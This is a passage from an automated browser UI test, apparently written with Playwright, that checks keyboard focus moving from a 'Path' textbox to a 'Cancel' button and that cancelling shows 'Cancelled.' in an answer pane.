  await keyboard.press('Control+Enter');
  await expect(pane.answer.getByRole('listitem')).toHaveCount(2);
  await expect(pane.element.getByRole('textbox', { name: 'Path' })).toBeFocused();
  await keyboard.press('Tab');
  await expect(pane.element.getByRole('button', { name: 'Cancel' })).toBeFocused();
  await keyboard.press('Enter');
  await expect(pane.answer).toContainText('Cancelled.');
  await expect(pane.send).toBeFocused();
});
